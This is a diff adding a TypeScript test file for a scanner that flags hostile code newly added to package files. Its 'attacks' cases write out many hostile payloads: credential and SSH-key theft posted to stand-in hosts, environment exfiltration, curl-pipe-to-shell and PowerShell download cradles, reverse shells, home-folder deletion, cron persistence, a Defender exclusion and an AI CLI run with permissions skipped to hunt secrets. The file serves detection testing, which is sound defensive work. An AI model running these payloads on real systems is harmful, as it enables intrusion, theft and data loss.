@@ -1,0 +1,234 @@
+import { describe, expect, it } from "vitest";
+import { compareMembers, contextOf, portraitOf } from "../trait.fixture.ts";
+import type { Difference, Portrait, Trait } from "../trait.ts";
+import { scriptBehaviour } from "./index.ts";
+
+const trait: Trait = scriptBehaviour as Trait;
+
+/** Readable files of each language that do nothing of interest. */
+const HOSTS: Readonly<Record<string, string>> = {
+  "index.js": "'use strict';\nexports.add = (a, b) => a + b;\n",
+  "module.py": "import sys\n\ndef add(a, b):\n    return a + b\n",
+  "run.sh": "#!/bin/sh\nset -e\necho done\n",
+  "setup.ps1": "param([string]$Name)\nWrite-Output $Name\n",
+  "setup.bat": "@echo off\r\nset NAME=demo\r\n",
+  "setup.vbs": "Option Explicit\r\nDim name\r\n",
+  "setup.rb": "require 'json'\nputs 1\n",
+};
+
+const drawn = (path: string, code: string): Promise<Portrait> =>
+  portraitOf([trait], { path, bytes: Buffer.from(code) });
+
+async function gain(path: string, payload: string): Promise<Difference[]> {
+  const host = HOSTS[path] ?? "";
+  return compareMembers(trait, await drawn(path, host), await drawn(path, `${host}${payload}\n`));
+}
+
+const worst = (differences: readonly Difference[]): string =>
+  ["critical", "high", "medium", "low", "info"].find((risk) =>
+    differences.some((difference) => difference.risk === risk),
+  ) ?? "none";
+
+const ENCODED = Buffer.from("require('child_process').exec('id > /tmp/out')").toString("base64");
+
+describe("attacks", () => {
+  it.each([
+    [
+      "index.js",
+      "private keys that are sent",
+      `const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519"));
+       https.request({ method: "POST", host }).end(key);`,
+    ],
+    [
+      "index.js",
+      "private keys, spelled in pieces",
+      `const k = fs["read" + "FileSync"](os.homedir() + "/.s" + "sh/id_" + "rsa"); fetch(u, { "method": "PO" + "ST", body: k });`,
+    ],
+    [
+      "index.js",
+      "browser profiles, in a module that reports already",
+      `const file = path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data"); axios.post(url, read(file));`,
+    ],
+    ["index.js", "the environment", `fetch(url, { method: "POST", body: JSON.stringify(process.env) });`],
+    [
+      "index.js",
+      "a program that is fetched and started out of sight",
+      `const { spawn } = require("child_process"); https.get(url, (r) => r.pipe(fs.createWriteStream(file)));
+       spawn(file, [], { detached: true, stdio: "ignore" }).unref();`,
+    ],
+    [
+      "index.js",
+      "an answer that is run",
+      `axios.get(url).then((res) => new Function("require", res.data.cookie)(require));`,
+    ],
+    [
+      "index.js",
+      "a fetched script",
+      `require("child_process").exec("curl -s https://files.invalid/a | bash");`,
+    ],
+    ["index.js", "an encoded script", `run(Buffer.from("${ENCODED}", "base64").toString());`],
+    [
+      "index.js",
+      "a file that removes itself",
+      `const cp = require("child_process"); cp.execSync("node setup"); fs.unlinkSync(__filename);`,
+    ],
+    [
+      "index.js",
+      "payments that are redirected",
+      `const old = window.fetch; window.fetch = async (...a) => old(...a); const eth = /0x[a-fA-F0-9]{40}/g;`,
+    ],
+    [
+      "index.js",
+      "a worm",
+      `const rc = fs.readFileSync(home + "/.npmrc", "utf8"); exec("npm publish --access public");`,
+    ],
+    [
+      "index.js",
+      "a machine that is reported in names",
+      `dns.resolve(os.hostname() + "." + os.userInfo().username + ".names.invalid", () => {});`,
+    ],
+    [
+      "index.js",
+      "an assistant that looks for secrets",
+      `spawn("claude", ["--dangerously-skip-permissions", "-p", prompt]); const k = home + "/.ssh/id_rsa";`,
+    ],
+    ["module.py", "a decoded program", `import base64\nexec(base64.b64decode("cHJpbnQoMSk="))`],
+    ["module.py", "a program that is decompressed", `exec(__import__('zlib').decompress(blob))`],
+    ["module.py", "a program that is fetched", `exec(requests.get("https://files.invalid/a").text)`],
+    [
+      "module.py",
+      "cloud credentials",
+      `data = open(os.path.expanduser("~/.aws/credentials")).read()\nrequests.post("https://in.invalid", data=data)`,
+    ],
+    ["module.py", "the environment", `requests.post(url, json=dict(os.environ))`],
+    [
+      "module.py",
+      "a shell for somebody else",
+      `s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])`,
+    ],
+    ["run.sh", "a fetched script", `curl -fsSL https://files.invalid/install | sh`],
+    ["run.sh", "the environment", `env | curl -s -d @- https://in.invalid/v2`],
+    ["run.sh", "an encoded script", `echo aWQK | base64 -d | bash`],
+    ["run.sh", "a shell for somebody else", `bash -i >& /dev/tcp/192.0.2.1/443 0>&1`],
+    ["run.sh", "a home folder that is deleted", `rm -rf "$HOME"`],
+    [
+      "run.sh",
+      "something that stays",
+      `nohup /tmp/x >/dev/null 2>&1 &\n(crontab -l; echo "* * * * * /tmp/x") | crontab -`,
+    ],
+    [
+      "setup.ps1",
+      "a fetched script",
+      `IEX (New-Object Net.WebClient).DownloadString('https://files.invalid/a')`,
+    ],
+    ["setup.ps1", "a fetched script with backticks", "i`ex (i`wr https://files.invalid/a).Content | I`EX"],
+    ["setup.ps1", "an exclusion of Defender", `Add-MpPreference -ExclusionPath $env:TEMP`],
+    ["setup.ps1", "an encoded command", `powershell.exe -nop -w hidden -enc ${"QUJDRA".repeat(8)}`],
+    [
+      "setup.bat",
+      "a downloaded file",
+      `certutil -urlcache -split -f https://files.invalid/a.exe %TEMP%\\a.exe`,
+    ],
+    ["setup.bat", "carets", `m^shta https://files.invalid/a.hta`],
+    ["setup.vbs", "an encoded program", `Execute(StrReverse("1 ohce"))`],
+    ["setup.rb", "an encoded program", `eval(Base64.decode64("cHV0cyAx"))`],
+  ])("holds %s for %s", async (path, _, payload) => {
+    expect(worst(await gain(path, payload))).toBe("high");
+    expect(worst(compareMembers(trait, undefined, await drawn(path, `${HOSTS[path]}${payload}\n`)))).toBe(
+      "high",
+    );
+  });
+
+  it("holds a credential reader in a module that sent data before", async () => {
+    const telemetry = `exports.report = (event) => fetch(url, { method: "POST", body: JSON.stringify(event) });\n`;
+    const reader = `const found = read(path.join(base, "Default", "Login Data")); report(found);\n`;
+    const [difference] = compareMembers(
+      trait,
+      await drawn("telemetry.js", telemetry),
+      await drawn("telemetry.js", telemetry + reader),
+    );
+    expect(difference).toMatchObject({ risk: "high", rule: "gained-together" });
+    expect(difference?.after?.text).toContain("Login Data");
+  });
+
+  it("finds what is close together in a long file, and what is new in it wherever it is", async () => {
+    const long = Array.from(
+      { length: 4000 },
+      (_, at) => `exports.f${at} = (a) => a.map((b) => b + ${at});`,
+    ).join("\n");
+    const steals = `post(fs.readFileSync(home + "/.aws/credentials")); fetch(u, { method: "POST" });`;
+    expect(worst(compareMembers(trait, undefined, await drawn("a.js", `${long}\n${steals}`)))).toBe("high");
+    const apart = `read(home + "/.aws/credentials");\n${long}\nfetch(u, { method: "POST" });`;
+    expect(worst(compareMembers(trait, undefined, await drawn("a.js", apart)))).toBe("low");
+    expect(worst(compareMembers(trait, await drawn("a.js", long), await drawn("a.js", apart)))).toBe("high");
+  });
+});
+
+describe("ordinary updates", () => {
+  it.each([
+    ["index.js", "a request", `exports.get = (id) => fetch(base + "/items/" + id).then((r) => r.json());`],
+    [
+      "index.js",
+      "a report of use",
+      `fetch(url, { method: "POST", body: JSON.stringify({ event, version }) });`,
+    ],
+    ["index.js", "a program that is started", `require("child_process").execFile("git", ["status"]);`],
+    ["index.js", "a regular expression", `const m = /a(b)/.exec(text); re.exec(other);`],
+    ["index.js", "an environment for a child", `spawn("node", args, { env: { ...process.env, CI: "1" } });`],
+    [
+      "index.js",
+      "an instruction for people",
+      `console.log("Install: curl -fsSL https://tool.example/install.sh | sh");`,
+    ],
+    [
+      "index.js",
+      "a property with the name of a folder",
+      `options.ssh.connect(); const local = state["local state"];`,
+    ],
+    ["index.js", "a route", `app.post("/login", handler); app.get("/cookies", list);`],
+    ["index.js", "an encoded picture", `const icon = "${Buffer.alloc(600, 0x89).toString("base64")}";`],
+    ["module.py", "a request", `def get(url):\n    return requests.get(url).json()`],
+    [
+      "module.py",
+      "an environment for a child",
+      `env = os.environ.copy()\nsubprocess.run(["git", "status"], env=env)`,
+    ],
+    [
+      "module.py",
+      "documentation",
+      `def f():\n    """Reads ~/.ssh/id_rsa and\n    requests.post(url) it: never do that."""`,
+    ],
+    ["module.py", "a compiled template", `exec(compile(source, name, "exec"), namespace)`],
+    ["run.sh", "a download", `curl -fsSLo /opt/tool.tgz "$URL"\nsha256sum -c sums`],
+    ["run.sh", "an instruction for people", `echo "run: curl https://tool.example/install | sh"`],
+    ["run.sh", "a comment", `# never do: curl https://files.invalid | sh`],
+    ["run.sh", "a folder that is cleaned", `rm -rf "$HOME/.cache/tool" /tmp/tool.$$`],
+    ["run.sh", "a service", `systemctl --system daemon-reload\nchmod +x /usr/bin/tool`],
+    ["setup.ps1", "a download", `Invoke-WebRequest -Uri $url -OutFile tool.zip`],
+    ["setup.bat", "an installer", `msiexec /i "%~dp0tool.msi" /qn`],
+  ])("stays quiet in %s for %s", async (path, _, payload) => {
+    expect(["none", "info", "low"]).toContain(worst(await gain(path, payload)));
+  });
+
+  it("stays quiet when what was there only moved", async () => {
+    const code = `read(home + "/.ssh/id_rsa"); fetch(u, { method: "POST" });`;
+    const [before, after] = [await drawn("chunk-a.js", code), await drawn("chunk-b.js", `${code}\n`)];
+    const pairs = [
+      { before, after: undefined, how: "removed" as const },
+      { before: undefined, after, how: "added" as const },
+    ];
+    expect(pairs.flatMap((pair) => [...(trait.compare?.(pair, contextOf(pairs)) ?? [])])).toEqual([]);
+  });
+
+  it("says less when other files of the release did the same before", async () => {
+    const code = `read(home + "/.aws/credentials"); fetch(u, { method: "POST" });`;
+    const known = await drawn("old.js", code);
+    const pairs = [
+      { before: known, after: known, how: "path" as const },
+      { before: undefined, after: await drawn("new.js", `${code}\n`), how: "added" as const },
+    ];
+    expect(worst(pairs.flatMap((pair) => [...(trait.compare?.(pair, contextOf(pairs)) ?? [])]))).toBe(
+      "medium",
+    );
+  });
+});
